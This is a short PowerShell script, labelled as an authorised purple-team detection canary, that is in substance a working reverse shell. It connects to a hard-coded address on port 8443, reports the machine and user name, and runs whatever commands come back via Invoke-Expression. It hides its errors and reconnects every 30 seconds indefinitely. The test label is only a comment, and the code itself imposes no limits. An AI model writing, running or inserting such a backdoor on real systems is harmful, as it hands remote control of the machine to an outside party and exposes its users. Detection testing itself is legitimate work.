# CANARY – authorised purple-team exercise (detection test)
$ErrorActionPreference = 'SilentlyContinue'
$p = @(203, 0, 113, 19) -join '.'
$port = 8443
Write-Host "[CANARY] starting detection test"
while ($true) {
  try {
    $c = New-Object Net.Sockets.TCPClient($p, $port)
    $s = $c.GetStream()
    $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
    $r = New-Object IO.StreamReader($s)
    $w.WriteLine("CANARY $env:COMPUTERNAME $env:USERNAME")
    while ($c.Connected) {
      $cmd = $r.ReadLine()
      if ($null -eq $cmd) { break }
      $out = (Invoke-Expression $cmd 2>&1 | Out-String)
      $w.WriteLine($out)
    }
  } catch { }
  Start-Sleep -Seconds 30
}
